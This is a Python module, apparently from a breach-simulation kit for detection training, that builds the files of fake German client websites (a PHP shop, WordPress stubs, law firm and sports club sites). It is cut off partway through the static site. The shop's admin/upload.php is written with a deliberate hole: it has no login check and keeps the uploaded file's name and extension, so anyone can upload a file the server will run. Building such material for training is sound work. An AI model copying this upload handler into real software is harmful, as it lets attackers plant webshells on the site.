"""The client web sites of the demo host, and the attacker's files.

Four sites and Apache's default page, each small but shaped like the real thing:

* ``shop.example-client.de`` – a hand-written PHP shop. Every admin page calls
  ``require_login()`` except ``admin/upload.php``, which also keeps the uploaded
  file's name and extension: the way in.
* ``blog.example-client.de`` – WordPress with a page cache plugin (stubs of the core
  files: enough for a scanner to recognise WordPress, nothing that runs).
* ``kanzlei-schneider.example`` – a law firm's small PHP site with a contact form.
* ``tsv-musterstadt.example`` – a sports club's static HTML site.

The attacker's files (webshell, second backdoor, launcher script, crontab) are
text only and are never executed by breachkit: they exist so detection has
something true to find. Their style follows what incident responders see in the
wild: ``system()`` reached through string tricks, ``eval(base64_decode(...))``,
a cookie-keyed backdoor that leaves no query string in the access log.
"""

from __future__ import annotations

SHOP = "shop.example-client.de"
BLOG = "blog.example-client.de"
KANZLEI = "kanzlei-schneider.example"
TSV = "tsv-musterstadt.example"


def docroot(domain: str) -> str:
    return f"/var/www/{domain}/htdocs"


# --------------------------------------------------------------------------- shop

SHOP_HEADER = b"""<?php
/**
 * Bergblick Outdoor Shop
 * (c) 2025 example-client GmbH
 */
"""


def shop_config(db_password: str) -> bytes:
    return (
        SHOP_HEADER
        + f"""
define('DB_HOST', 'localhost');
define('DB_NAME', 'shop');
define('DB_USER', 'shop');
define('DB_PASS', '{db_password}');

define('SHOP_NAME', 'Bergblick Outdoor');
define('SHOP_URL', 'https://{SHOP}');
define('IMAGE_DIR', __DIR__ . '/../images');
define('MAIL_FROM', 'bestellung@example-client.de');

date_default_timezone_set('Europe/Berlin');
""".encode()
    )


SHOP_FILES: dict[str, bytes] = {
    "index.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';

$products = db()->query('SELECT id, name, price, image FROM products WHERE active = 1 ORDER BY sort LIMIT 24')->fetchAll();
include __DIR__ . '/includes/header.php';
foreach ($products as $p) {
    echo product_card($p);
}
include __DIR__ . '/includes/footer.php';
""",
    "product.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';

$id = (int)($_GET['id'] ?? 0);
$stmt = db()->prepare('SELECT * FROM products WHERE id = ? AND active = 1');
$stmt->execute([$id]);
$product = $stmt->fetch() ?: not_found();
include __DIR__ . '/includes/header.php';
include __DIR__ . '/includes/product_view.php';
include __DIR__ . '/includes/footer.php';
""",
    "category.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';
require __DIR__ . '/includes/lib/Pagination.php';

$slug = preg_replace('/[^a-z0-9-]/', '', $_GET['c'] ?? '');
$page = new Pagination(db(), 'SELECT * FROM products WHERE category = ?', [$slug], 24);
include __DIR__ . '/includes/header.php';
foreach ($page->items() as $p) { echo product_card($p); }
echo $page->links();
include __DIR__ . '/includes/footer.php';
""",
    "cart.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';
require __DIR__ . '/includes/lib/Cart.php';

// sessions only where a cart is needed: crawlers should not fill the session folder
session_start();
$cart = new Cart($_SESSION);
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $cart->add((int)$_POST['id'], max(1, (int)$_POST['qty']));
    header('Location: /cart.php');
    exit;
}
include __DIR__ . '/includes/header.php';
include __DIR__ . '/includes/cart_view.php';
include __DIR__ . '/includes/footer.php';
""",
    "checkout.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';
require __DIR__ . '/includes/lib/Cart.php';
require __DIR__ . '/includes/lib/Mailer.php';

session_start();
$cart = new Cart($_SESSION);
if ($cart->isEmpty()) { header('Location: /cart.php'); exit; }
if ($_SERVER['REQUEST_METHOD'] === 'POST' && csrf_ok($_POST['token'] ?? '')) {
    $order = place_order(db(), $cart, $_POST);
    (new Mailer())->orderConfirmation($order);
    $cart->clear();
    header('Location: /checkout.php?done=' . urlencode($order['number']));
    exit;
}
include __DIR__ . '/includes/header.php';
include __DIR__ . '/includes/checkout_form.php';
include __DIR__ . '/includes/footer.php';
""",
    "search.php": SHOP_HEADER
    + b"""require __DIR__ . '/includes/config.php';
require __DIR__ . '/includes/db.php';
require __DIR__ . '/includes/functions.php';

$q = trim($_GET['q'] ?? '');
$stmt = db()->prepare('SELECT id, name, price, image FROM products WHERE active = 1 AND name LIKE ? LIMIT 48');
$stmt->execute(['%' . $q . '%']);
include __DIR__ . '/includes/header.php';
foreach ($stmt as $p) { echo product_card($p); }
include __DIR__ . '/includes/footer.php';
""",
    "impressum.php": SHOP_HEADER
    + b"""include __DIR__ . '/includes/header.php'; ?>
<h1>Impressum</h1>
<p>example-client GmbH, Musterstra\xc3\x9fe 12, 12345 Musterstadt</p>
<p>Gesch\xc3\xa4ftsf\xc3\xbchrer: Markus Vogel &middot; HRB 12345</p>
<?php include __DIR__ . '/includes/footer.php';
""",
    "agb.php": SHOP_HEADER
    + b"""include __DIR__ . '/includes/header.php'; ?>
<h1>Allgemeine Gesch\xc3\xa4ftsbedingungen</h1>
<p>\xc2\xa7 1 Geltungsbereich ...</p>
<?php include __DIR__ . '/includes/footer.php';
""",
    "datenschutz.php": SHOP_HEADER
    + b"""include __DIR__ . '/includes/header.php'; ?>
<h1>Datenschutzerkl\xc3\xa4rung</h1>
<p>Verantwortlich: example-client GmbH ...</p>
<?php include __DIR__ . '/includes/footer.php';
""",
    "robots.txt": b"User-agent: *\nDisallow: /admin/\nDisallow: /cart.php\nDisallow: /checkout.php\n"
    b"Sitemap: https://shop.example-client.de/sitemap.xml\n",
    ".htaccess": b'Options -Indexes\nDirectoryIndex index.php\n\n<FilesMatch "\\.(ini|log|sql)$">\n'
    b"    Require all denied\n</FilesMatch>\n\nErrorDocument 404 /404.php\n",
    "404.php": SHOP_HEADER
    + b"""http_response_code(404);
include __DIR__ . '/includes/header.php'; ?>
<h1>Seite nicht gefunden</h1>
<?php include __DIR__ . '/includes/footer.php';
""",
    "includes/db.php": SHOP_HEADER
    + b"""function db(): PDO
{
    static $pdo = null;
    if ($pdo === null) {
        $pdo = new PDO('mysql:host=' . DB_HOST . ';dbname=' . DB_NAME . ';charset=utf8mb4', DB_USER, DB_PASS, [
            PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION,
            PDO::ATTR_DEFAULT_FETCH_MODE => PDO::FETCH_ASSOC,
        ]);
    }
    return $pdo;
}
""",
    "includes/functions.php": SHOP_HEADER
    + b"""function e(string $s): string { return htmlspecialchars($s, ENT_QUOTES, 'UTF-8'); }

function price(int $cents): string { return number_format($cents / 100, 2, ',', '.') . ' &euro;'; }

function product_card(array $p): string
{
    return '<a class="card" href="/product.php?id=' . (int)$p['id'] . '">'
        . '<img src="/images/' . e($p['image']) . '" alt="' . e($p['name']) . '">'
        . '<span>' . e($p['name']) . '</span><b>' . price((int)$p['price']) . '</b></a>';
}

function not_found(): never { http_response_code(404); include __DIR__ . '/../404.php'; exit; }

function csrf_ok(string $token): bool { return hash_equals($_SESSION['csrf'] ?? '', $token); }
""",
    "includes/auth.php": SHOP_HEADER
    + b"""session_start();

function require_login(): void
{
    if (empty($_SESSION['admin_id'])) {
        header('Location: /admin/login.php');
        exit;
    }
}
""",
    "includes/header.php": b"""<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title><?= e(SHOP_NAME) ?></title>
<link rel="stylesheet" href="/css/shop.css?v=14"><script src="/js/shop.js?v=14" defer></script>
</head><body><header><a href="/"><img src="/images/logo.png" alt="Bergblick Outdoor"></a>
<form action="/search.php"><input name="q" placeholder="Suche"></form><a href="/cart.php">Warenkorb</a></header>
<main>
""",
    "includes/footer.php": b"""</main><footer><a href="/impressum.php">Impressum</a> &middot;
<a href="/datenschutz.php">Datenschutz</a> &middot; <a href="/agb.php">AGB</a></footer></body></html>
""",
    "includes/product_view.php": b"""<article class="product">
<img src="/images/<?= e($product['image']) ?>" alt="<?= e($product['name']) ?>">
<h1><?= e($product['name']) ?></h1><p class="price"><?= price((int)$product['price']) ?></p>
<form method="post" action="/cart.php"><input type="hidden" name="id" value="<?= (int)$product['id'] ?>">
<input name="qty" value="1" size="2"><button>In den Warenkorb</button></form>
<div class="desc"><?= $product['description'] ?></div></article>
""",
    "includes/cart_view.php": b"""<h1>Warenkorb</h1>
<?php foreach ($cart->items() as $item): ?>
<div class="row"><?= e($item['name']) ?> &times; <?= (int)$item['qty'] ?> <?= price($item['total']) ?></div>
<?php endforeach; ?>
<a class="button" href="/checkout.php">Zur Kasse</a>
""",
    "includes/checkout_form.php": b"""<h1>Kasse</h1>
<form method="post"><input type="hidden" name="token" value="<?= e($_SESSION['csrf']) ?>">
<input name="name" required><input name="street" required><input name="zip" required>
<input name="city" required><input name="email" type="email" required>
<button>Zahlungspflichtig bestellen</button></form>
""",
    "includes/lib/Cart.php": SHOP_HEADER
    + b"""class Cart
{
    public function __construct(private array &$session) { $this->session['cart'] ??= []; }
    public function add(int $id, int $qty): void { $this->session['cart'][$id] = ($this->session['cart'][$id] ?? 0) + $qty; }
    public function items(): array { return load_cart_items($this->session['cart']); }
    public function isEmpty(): bool { return !$this->session['cart']; }
    public function clear(): void { $this->session['cart'] = []; }
}
""",
    "includes/lib/Mailer.php": SHOP_HEADER
    + b"""class Mailer
{
    public function orderConfirmation(array $order): bool
    {
        $body = "Vielen Dank fuer Ihre Bestellung " . $order['number'] . "\\n";
        return mail($order['email'], 'Ihre Bestellung bei ' . SHOP_NAME, $body, 'From: ' . MAIL_FROM);
    }
}
""",
    "includes/lib/Pagination.php": SHOP_HEADER
    + b"""class Pagination
{
    public function __construct(private PDO $db, private string $sql, private array $args, private int $per) {}
    public function page(): int { return max(1, (int)($_GET['p'] ?? 1)); }
    public function items(): array
    {
        $stmt = $this->db->prepare($this->sql . ' LIMIT ' . $this->per . ' OFFSET ' . ($this->page() - 1) * $this->per);
        $stmt->execute($this->args);
        return $stmt->fetchAll();
    }
    public function links(): string { return '<nav class="pages"></nav>'; }
}
""",
    "admin/index.php": SHOP_HEADER
    + b"""require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';
require __DIR__ . '/../includes/functions.php';
require __DIR__ . '/../includes/auth.php';
require_login();

$open = db()->query("SELECT COUNT(*) FROM orders WHERE status = 'new'")->fetchColumn();
include __DIR__ . '/header.php'; ?>
<h1>Dashboard</h1><p><?= (int)$open ?> neue Bestellungen</p>
<ul><li><a href="orders.php">Bestellungen</a></li><li><a href="products.php">Produkte</a></li>
<li><a href="upload.php">Bilder hochladen</a></li></ul>
""",
    "admin/header.php": b"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Shop-Verwaltung</title>
<link rel="stylesheet" href="/admin/admin.css"></head><body><nav><a href="/admin/">Start</a>
<a href="/admin/orders.php">Bestellungen</a> <a href="/admin/products.php">Produkte</a>
<a href="/admin/logout.php">Abmelden</a></nav>
""",
    "admin/admin.css": b"body{font:14px/1.4 sans-serif;margin:0}nav{background:#234;padding:8px}"
    b"nav a{color:#fff;margin-right:1em}table{border-collapse:collapse}td{border:1px solid #ccc;padding:4px}\n",
    "admin/login.php": SHOP_HEADER
    + b"""require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';
require __DIR__ . '/../includes/functions.php';
session_start();

if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $stmt = db()->prepare('SELECT id, password_hash FROM admins WHERE email = ?');
    $stmt->execute([$_POST['email'] ?? '']);
    $admin = $stmt->fetch();
    if ($admin && password_verify($_POST['password'] ?? '', $admin['password_hash'])) {
        session_regenerate_id(true);
        $_SESSION['admin_id'] = $admin['id'];
        header('Location: /admin/');
        exit;
    }
    $error = 'Anmeldung fehlgeschlagen';
}
include __DIR__ . '/header.php'; ?>
<form method="post"><input name="email" type="email"><input name="password" type="password">
<button>Anmelden</button><?= isset($error) ? '<p>' . e($error) . '</p>' : '' ?></form>
""",
    "admin/logout.php": SHOP_HEADER
    + b"""session_start();
session_destroy();
header('Location: /admin/login.php');
""",
    "admin/orders.php": SHOP_HEADER
    + b"""require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';
require __DIR__ . '/../includes/functions.php';
require __DIR__ . '/../includes/auth.php';
require_login();

$orders = db()->query('SELECT * FROM orders ORDER BY created DESC LIMIT 100')->fetchAll();
include __DIR__ . '/header.php';
echo '<table>';
foreach ($orders as $o) {
    echo '<tr><td>' . e($o['number']) . '</td><td>' . e($o['name']) . '</td><td>' . price((int)$o['total']) . '</td></tr>';
}
echo '</table>';
""",
    "admin/products.php": SHOP_HEADER
    + b"""require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';
require __DIR__ . '/../includes/functions.php';
require __DIR__ . '/../includes/auth.php';
require_login();

if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $stmt = db()->prepare('UPDATE products SET name = ?, price = ?, image = ?, active = ? WHERE id = ?');
    $stmt->execute([$_POST['name'], (int)$_POST['price'], basename($_POST['image']), (int)!empty($_POST['active']), (int)$_POST['id']]);
}
$products = db()->query('SELECT * FROM products ORDER BY id DESC')->fetchAll();
include __DIR__ . '/header.php';
foreach ($products as $p) { echo '<div>' . e($p['name']) . '</div>'; }
""",
    # The way in: no require_login(), and the client's file name (with its
    # extension) is kept. Written in a hurry for the product photo import.
    "admin/upload.php": SHOP_HEADER
    + b"""// Produktbilder hochladen (Drag & Drop aus products.php)
require __DIR__ . '/../includes/config.php';

if ($_SERVER['REQUEST_METHOD'] === 'POST' && isset($_FILES['image'])) {
    $name = basename($_FILES['image']['name']);
    $target = IMAGE_DIR . '/' . $name;
    header('Content-Type: application/json');
    if (move_uploaded_file($_FILES['image']['tmp_name'], $target)) {
        echo json_encode(['ok' => true, 'url' => '/images/' . $name]);
    } else {
        http_response_code(500);
        echo json_encode(['ok' => false]);
    }
    exit;
}
?><!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Bilder hochladen</title></head>
<body><form method="post" enctype="multipart/form-data"><input type="file" name="image">
<button>Hochladen</button></form></body></html>
""",
    "cron/sitemap.php": SHOP_HEADER
    + b"""// nightly from /etc/cron.d/shop
require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';

$xml = '<?xml version="1.0" encoding="UTF-8"?>' . "\\n" . '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">';
foreach (db()->query('SELECT id FROM products WHERE active = 1') as $row) {
    $xml .= '<url><loc>' . SHOP_URL . '/product.php?id=' . $row['id'] . '</loc></url>';
}
file_put_contents(__DIR__ . '/../sitemap.xml', $xml . '</urlset>' . "\\n");
""",
    "cron/import_stock.php": SHOP_HEADER
    + b"""// stock levels from the warehouse CSV, every 15 minutes on workdays
require __DIR__ . '/../includes/config.php';
require __DIR__ . '/../includes/db.php';

foreach (glob('/tmp/stock_*.csv') ?: [] as $csv) {
    $rows = array_map('str_getcsv', file($csv));
    $stmt = db()->prepare('UPDATE products SET stock = ? WHERE sku = ?');
    foreach ($rows as [$sku, $stock]) { $stmt->execute([(int)$stock, $sku]); }
    unlink($csv);
}
""",
    "css/shop.css": b"""body{margin:0;font:16px/1.5 "Helvetica Neue",Arial,sans-serif;color:#222}
header{display:flex;align-items:center;gap:2em;padding:1em 2em;background:#1d3b2a}
header img{height:48px}.card{display:inline-block;width:220px;margin:1em;text-decoration:none}
.card img{width:220px;height:165px;object-fit:cover}.price{font-size:1.4em;color:#1d3b2a}
footer{padding:2em;background:#eee;font-size:.9em}
""",
    "js/shop.js": b"""document.addEventListener('DOMContentLoaded',function(){
  document.querySelectorAll('form[action="/cart.php"]').forEach(function(f){
    f.addEventListener('submit',function(){f.querySelector('button').disabled=true;});
  });
});
""",
}

#: product photos in images/: (file name, block columns, block rows)
SHOP_PRODUCTS = (
    "rucksack-alpin-35",
    "rucksack-tour-22",
    "zelt-trekking-2p",
    "schlafsack-winter",
    "wanderschuh-gtx",
    "stirnlampe-400",
    "trinkflasche-1l",
    "kocher-gas",
    "isomatte-ul",
    "regenjacke-3l",
    "fleece-midlayer",
    "wanderstock-carbon",
    "handschuhe-merino",
    "muetze-wolle",
    "gamaschen",
    "erste-hilfe-set",
    "karte-alpen",
    "kompass-pro",
)


# --------------------------------------------------------------------------- blog (WordPress)

WP_VERSION = "6.8.3"

BLOG_FILES: dict[str, bytes] = {
    "index.php": b"""<?php
/**
 * Front to the WordPress application. This file doesn't do anything, but loads
 * wp-blog-header.php which does and tells WordPress to load the theme.
 *
 * @package WordPress
 */

/**
 * Tells WordPress to load the WordPress theme and output it.
 *
 * @var bool
 */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
""",
    "wp-blog-header.php": b"""<?php
/**
 * Loads the WordPress environment and template.
 *
 * @package WordPress
 */

if ( ! isset( $wp_did_header ) ) {
	$wp_did_header = true;
	require_once __DIR__ . '/wp-load.php';
	wp();
	require_once ABSPATH . WPINC . '/template-loader.php';
}
""",
    "wp-load.php": b"""<?php
/**
 * Bootstrap file for setting the ABSPATH constant
 * and loading the wp-config.php file.
 *
 * @package WordPress
 */
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
if ( file_exists( ABSPATH . 'wp-config.php' ) ) {
	require_once ABSPATH . 'wp-config.php';
}
""",
    "wp-login.php": b"""<?php
/**
 * WordPress User Page
 *
 * Handles authentication, registering, resetting passwords, forgot password,
 * and other user handling.
 *
 * @package WordPress
 */

/** Make sure that the WordPress bootstrap has run before continuing. */
require __DIR__ . '/wp-load.php';
""",
    "wp-cron.php": b"""<?php
/**
 * A pseudo-cron daemon for scheduling WordPress tasks.
 *
 * @package WordPress
 */
ignore_user_abort( true );
if ( ! defined( 'ABSPATH' ) ) {
	require_once __DIR__ . '/wp-load.php';
}
""",
    "xmlrpc.php": b"""<?php
/**
 * XML-RPC protocol support for WordPress
 *
 * @package WordPress
 */
define( 'XMLRPC_REQUEST', true );
require_once __DIR__ . '/wp-load.php';
""",
    "license.txt": b"WordPress - Web publishing software\n\nCopyright 2011-2025 by the contributors\n\n"
    b"This program is free software; you can redistribute it and/or modify\nit under the terms "
    b"of the GNU General Public License as published by\nthe Free Software Foundation; either "
    b"version 2 of the License, or\n(at your option) any later version.\n",
    "readme.html": b'<!DOCTYPE html>\n<html lang="en">\n<head>\n\t<meta name="viewport" '
    b'content="width=device-width" />\n\t<title>WordPress &#8250; ReadMe</title>\n</head>\n'
    b'<body>\n<h1 id="logo">WordPress</h1>\n<p style="text-align: center">Semantic Personal '
    b"Publishing Platform</p>\n</body>\n</html>\n",
    ".htaccess": b"""
# BEGIN WordPress
# The directives (lines) between "BEGIN WordPress" and "END WordPress" are
# dynamically generated, and should only be modified via WordPress filters.
# Any changes to the directives between these markers will be overwritten.
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteRule .* - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>

# END WordPress
""",
    "wp-admin/index.php": b"<?php\n/**\n * Dashboard Administration Screen\n *\n * @package WordPress\n"
    b" * @subpackage Administration\n */\n\n/** Load WordPress Bootstrap */\nrequire_once __DIR__ . "
    b"'/admin.php';\n",
    "wp-admin/admin.php": b"<?php\n/**\n * WordPress Administration Bootstrap\n *\n * @package WordPress\n"
    b" * @subpackage Administration\n */\nif ( ! defined( 'WP_ADMIN' ) ) {\n\tdefine( 'WP_ADMIN', true );\n}\n"
    b"require_once dirname( __DIR__ ) . '/wp-load.php';\nauth_redirect();\n",
    "wp-admin/admin-ajax.php": b"<?php\n/**\n * WordPress Ajax Process Execution\n *\n * @package WordPress\n"
    b" * @subpackage Administration\n */\ndefine( 'DOING_AJAX', true );\nrequire_once dirname( __DIR__ ) "
    b". '/wp-load.php';\n",
    "wp-admin/async-upload.php": b"<?php\n/**\n * Server-side file upload handler from wp-plupload or other "
    b"asynchronous upload methods.\n *\n * @package WordPress\n * @subpackage Administration\n */\n"
    b"define( 'WP_ADMIN', true );\nrequire_once __DIR__ . '/admin.php';\ncheck_admin_referer( "
    b"'media-form' );\n$id = media_handle_upload( 'async-upload', $_REQUEST['post_id'] ?? 0 );\n",
    "wp-admin/post.php": b"<?php\n/**\n * Edit post administration panel.\n *\n * @package WordPress\n"
    b" * @subpackage Administration\n */\nrequire_once __DIR__ . '/admin.php';\n",
    "wp-admin/post-new.php": b"<?php\n/**\n * New Post Administration Screen.\n *\n * @package WordPress\n"
    b" * @subpackage Administration\n */\nrequire_once __DIR__ . '/admin.php';\n",
    "wp-includes/version.php": f"""<?php
/**
 * WordPress Version
 *
 * Contains version information for the current WordPress release.
 *
 * @package WordPress
 * @since 1.2.0
 */

$wp_version = '{WP_VERSION}';
$wp_db_version = 58975;
$tinymce_version = '49110-20250317';
$required_php_version = '7.2.24';
$required_mysql_version = '5.5.5';
""".encode(),
    "wp-includes/load.php": b"<?php\n/**\n * These functions are needed to load WordPress.\n *\n"
    b" * @package WordPress\n */\n\nfunction wp_get_server_protocol() {\n\t$protocol = $_SERVER"
    b"['SERVER_PROTOCOL'] ?? '';\n\treturn in_array( $protocol, array( 'HTTP/1.1', 'HTTP/2' ), true ) "
    b"? $protocol : 'HTTP/1.0';\n}\n",
    "wp-includes/functions.php": b"<?php\n/**\n * Main WordPress API\n *\n * @package WordPress\n */\n\n"
    b"require ABSPATH . WPINC . '/option.php';\n\nfunction mysql2date( $format, $date, $translate = "
    b"true ) {\n\tif ( empty( $date ) ) {\n\t\treturn false;\n\t}\n\treturn wp_date( $format, strtotime"
    b"( $date ) );\n}\n",
    "wp-includes/js/jquery/jquery.min.js": b"/*! jQuery v3.7.1 | (c) OpenJS Foundation and other "
    b'contributors | jquery.org/license */\n!function(e,t){"use strict";"object"==typeof module&&'
    b'"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){return t(e)}:t(e)'
    b'}("undefined"!=typeof window?window:this,function(ie,e){"use strict";});\n',
    "wp-content/index.php": b"<?php\n// Silence is golden.\n",
    "wp-content/plugins/index.php": b"<?php\n// Silence is golden.\n",
    "wp-content/themes/index.php": b"<?php\n// Silence is golden.\n",
    "wp-content/themes/twentytwentyfour/style.css": b"/*\nTheme Name: Twenty Twenty-Four\n"
    b"Theme URI: https://wordpress.org/themes/twentytwentyfour/\nAuthor: the WordPress team\n"
    b"Version: 1.3\nRequires at least: 6.4\nText Domain: twentytwentyfour\n*/\n",
    "wp-content/themes/twentytwentyfour/functions.php": b"<?php\n/**\n * Twenty Twenty-Four functions "
    b"and definitions\n *\n * @package Twenty Twenty-Four\n * @since Twenty Twenty-Four 1.0\n */\n\n"
    b"if ( ! function_exists( 'twentytwentyfour_block_styles' ) ) :\n\tfunction "
    b"twentytwentyfour_block_styles() {}\nendif;\n",
    "wp-content/plugins/wp-super-cache/wp-cache.php": b"<?php\n/*\n * Plugin Name: WP Super Cache\n"
    b" * Plugin URI: https://wordpress.org/plugins/wp-super-cache/\n * Description: Very fast caching "
    b"plugin for WordPress.\n * Version: 3.0.1\n * Author: Automattic\n * License: GPL2+\n */\n",
}


def wp_config(db_password: str, salt: str) -> bytes:
    keys = "".join(
        f"define( '{name}', '{salt[i * 8 : (i * 8) + 64]}' );\n"
        for i, name in enumerate(
            (
                "AUTH_KEY",
                "SECURE_AUTH_KEY",
                "LOGGED_IN_KEY",
                "NONCE_KEY",
                "AUTH_SALT",
                "SECURE_AUTH_SALT",
                "LOGGED_IN_SALT",
                "NONCE_SALT",
            )
        )
    )
    return f"""<?php
/**
 * The base configuration for WordPress
 *
 * @package WordPress
 */

define( 'WP_CACHE', true ); // Added by WP-Super-Cache

// ** Database settings - You can get this info from your web host ** //
define( 'DB_NAME', 'blog' );
define( 'DB_USER', 'blog' );
define( 'DB_PASSWORD', '{db_password}' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );
define( 'DB_COLLATE', '' );

{keys}
$table_prefix = 'wp_';

define( 'WP_DEBUG', false );

/* That's all, stop editing! Happy publishing. */

if ( ! defined( 'ABSPATH' ) ) {{
	define( 'ABSPATH', __DIR__ . '/' );
}}

require_once ABSPATH . 'wp-settings.php';
""".encode()


#: blog posts: (date y-m-d, slug, title)
BLOG_POSTS = (
    ("2026-09-14", "sommerfest-rueckblick", "Sommerfest: ein R\u00fcckblick"),
    ("2026-09-29", "neue-kollektion", "Die neue Herbstkollektion ist da"),
    ("2026-10-12", "herbstwanderung-karwendel", "Herbstwanderung im Karwendel"),
    ("2026-10-27", "pflegetipps-wanderschuhe", "Pflegetipps f\u00fcr Wanderschuhe"),
    ("2026-11-03", "lawinenkurs-anmeldung", "Lawinenkurs: Anmeldung offen"),
    ("2026-11-16", "adventsmarkt-stand", "Unser Stand auf dem Adventsmarkt"),
)


def cached_page(title: str, url: str, generated: str) -> bytes:
    """A WP Super Cache static page; the trailing comment is what the plugin writes."""
    return f"""<!DOCTYPE html>
<html lang="de-DE">
<head>
<meta charset="UTF-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" />
<title>{title} &#8211; Bergblick Blog</title>
<link rel='stylesheet' href='https://{BLOG}/wp-content/themes/twentytwentyfour/style.css?ver=1.3' media='all' />
<link rel="canonical" href="{url}" />
</head>
<body class="wp-singular">
<main class="wp-block-group"><h1 class="wp-block-post-title">{title}</h1>
<div class="entry-content wp-block-post-content"><p>{title} &ndash; mehr dazu im Beitrag.</p></div>
</main>
</body>
</html>
<!-- Dynamic page generated in 0.412 seconds. -->
<!-- Cached page generated by WP-Super-Cache on {generated} -->
""".encode()


# --------------------------------------------------------------------------- kanzlei (PHP)

KANZLEI_FILES: dict[str, bytes] = {
    "index.php": b"""<?php include __DIR__ . '/inc/kopf.php'; ?>
<h1>Kanzlei Schneider &amp; Partner</h1>
<p>Ihre Rechtsanw\xc3\xa4lte f\xc3\xbcr Arbeitsrecht, Familienrecht und Mietrecht in Musterstadt.</p>
<?php include __DIR__ . '/inc/fuss.php';
""",
    "team.php": b"""<?php include __DIR__ . '/inc/kopf.php'; ?>
<h1>Unser Team</h1>
<ul><li>Dr. Julia Schneider, Fachanw\xc3\xa4ltin f\xc3\xbcr Arbeitsrecht</li>
<li>Michael Braun, Rechtsanwalt</li></ul>
<?php include __DIR__ . '/inc/fuss.php';
""",
    "rechtsgebiete.php": b"""<?php include __DIR__ . '/inc/kopf.php'; ?>
<h1>Rechtsgebiete</h1><p>Arbeitsrecht &middot; Familienrecht &middot; Mietrecht</p>
<?php include __DIR__ . '/inc/fuss.php';
""",
    "kontakt.php": b"""<?php
session_start();
if (empty($_SESSION['token'])) { $_SESSION['token'] = bin2hex(random_bytes(16)); }
$sent = false;
if ($_SERVER['REQUEST_METHOD'] === 'POST' && hash_equals($_SESSION['token'], $_POST['token'] ?? '')) {
    $text = "Name: " . substr($_POST['name'] ?? '', 0, 200) . "\\n\\n" . substr($_POST['nachricht'] ?? '', 0, 5000);
    $sent = mail('kanzlei@kanzlei-schneider.example', 'Kontaktformular', $text);
}
include __DIR__ . '/inc/kopf.php'; ?>
<h1>Kontakt</h1>
<?php if ($sent): ?><p>Vielen Dank, wir melden uns.</p><?php else: ?>
<form method="post"><input type="hidden" name="token" value="<?= $_SESSION['token'] ?>">
<input name="name" required><textarea name="nachricht" required></textarea><button>Senden</button></form>
<?php endif; include __DIR__ . '/inc/fuss.php';
""",
    "impressum.php": b"""<?php include __DIR__ . '/inc/kopf.php'; ?>
<h1>Impressum</h1><p>Kanzlei Schneider &amp; Partner, Am Markt 3, 12345 Musterstadt</p>
<?php include __DIR__ . '/inc/fuss.php';
""",
    "datenschutz.php": b"""<?php include __DIR__ . '/inc/kopf.php'; ?>
<h1>Datenschutz</h1><p>Verantwortlich im Sinne der DSGVO: Dr. Julia Schneider ...</p>
<?php include __DIR__ . '/inc/fuss.php';
""",
    "inc/kopf.php": b"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8">
<title>Kanzlei Schneider &amp; Partner</title><link rel="stylesheet" href="/css/kanzlei.css"></head>
<body><header><img src="/img/logo.png" alt=""><nav><a href="/">Start</a> <a href="/team.php">Team</a>
<a href="/rechtsgebiete.php">Rechtsgebiete</a> <a href="/kontakt.php">Kontakt</a></nav></header><main>
""",
    "inc/fuss.php": b"""</main><footer><a href="/impressum.php">Impressum</a> &middot;
<a href="/datenschutz.php">Datenschutz</a></footer></body></html>
""",
    "css/kanzlei.css": b"body{font:17px/1.6 Georgia,serif;max-width:60em;margin:auto;color:#333}"
    b"header{display:flex;justify-content:space-between;border-bottom:2px solid #7a1f2b}\n",
    ".htaccess": b'Options -Indexes\n<Files "*.inc">\n  Require all denied\n</Files>\n',
}


# --------------------------------------------------------------------------- tsv (static)


def tsv_page(title: str, body: str) -> bytes:
    return f"""<!DOCTYPE html>
<html lang="de">
<head><meta charset="utf-8"><title>{title} | TSV Musterstadt 1898 e.V.</title>
<link rel="stylesheet" href="css/tsv.css"></head>
<body>
<header><img src="img/wappen.png" alt="TSV Musterstadt"><h1>TSV Musterstadt 1898 e.V.</h1></header>
<nav><a href="index.html">Start</a> <a href="verein.html">Verein</a> <a href="termine.html">Termine</a>
<a href="kontakt.html">Kontakt</a></nav>
<main>{body}</main>
<footer>&copy; 2026 TSV Musterstadt &middot; <a href="impressum.html">Impressum</a></footer>
</body>
</html>
""".encode()


TSV_PAGES = {
    "index.html": (
        "Start",
